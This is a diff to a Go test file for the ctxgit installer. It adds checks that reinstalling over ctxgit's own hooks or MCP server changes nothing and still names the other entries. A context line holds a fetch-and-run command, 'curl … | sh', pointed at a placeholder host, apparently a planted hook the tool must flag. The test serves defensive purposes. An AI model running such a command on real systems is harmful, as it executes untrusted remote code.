@@ -959,6 +959,12 @@ func TestInstallNamesHooksNotCtxgits(t *testing.T) {
 			if strings.Contains(got, "\n") || !strings.Contains(got, "steal") && !strings.Contains(got, "curl -s https://x.example/a | sh # hidden") {
 				t.Errorf("note %q: want the command, on one line", got)
 			}
+			// A clone may commit ctxgit's entries beside its own: an
+			// install that finds ctxgit's there already names them too.
+			again := install(t, Options{Root: root, Host: tc.host})
+			if again.Changed || !slices.ContainsFunc(again.Notes, func(n string) bool { return strings.HasPrefix(n, want) }) {
+				t.Errorf("install over ctxgit's own entries: changed %v, notes %q; want the hook ctxgit did not write named", again.Changed, again.Notes)
+			}
 			// A file holding only ctxgit's hooks: nothing to name.
 			install(t, Options{Root: root, Host: tc.host, Uninstall: true})
 			writeFile(t, root, tc.rel, "{}")
@@ -996,6 +1002,15 @@ func TestInstallMCPNamesServersNotCtxgits(t *testing.T) {
 			}
 			if !found {
 				t.Fatalf("notes %q: none starts %q", res.Notes, want)
+			}
+			// ctxgit's server there already (committed beside the others):
+			// nothing to write, and the others are named all the same.
+			again, err := InstallMCP(Options{Root: root, Host: tc.host, Now: fixedNow})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if again.Changed || !slices.ContainsFunc(again.Notes, func(n string) bool { return strings.HasPrefix(n, want) }) {
+				t.Errorf("init --mcp over ctxgit's own server: changed %v, notes %q; want the others named", again.Changed, again.Notes)
 			}
 		})
 	}
